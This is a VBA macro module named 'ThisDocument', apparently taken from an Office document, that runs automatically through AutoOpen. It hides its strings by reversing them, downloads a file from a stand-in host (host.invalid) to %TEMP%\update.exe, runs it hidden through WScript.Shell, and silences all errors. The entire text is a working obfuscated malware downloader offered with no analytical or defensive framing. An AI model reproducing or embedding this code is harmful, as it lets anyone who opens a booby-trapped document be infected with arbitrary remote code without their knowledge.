Attribute VB_Name = "ThisDocument"
Private Function Name1(t As String) As String
    Dim i As Integer
    For i = Len(t) To 1 Step -1
        Name1 = Name1 & Mid$(t, i, 1)
    Next i
End Function
Sub AutoOpen()
    On Error GoTo Failed
    Dim q As Object, f As Object, where As String
    where = Environ$("TEMP") & "\" & Name1("exe.etadpu")
    Set q = CreateObject(Name1("PTTHLMX.2LMXSM"))
    q.Open "GET", Name1("nib.a/dilavni.tsoh//:ptth"), False
    q.Send
    Set f = CreateObject(Name1("maertS.BDODA"))
    f.Type = 1
    f.Open
    f.Write q.responseBody
    CallByName f, Name1("eliFoTevaS"), 1, where, 2
    CreateObject(Name1("llehS.tpircSW")).Run where, 0
    Exit Sub
Failed:
    Resume Next
End Sub
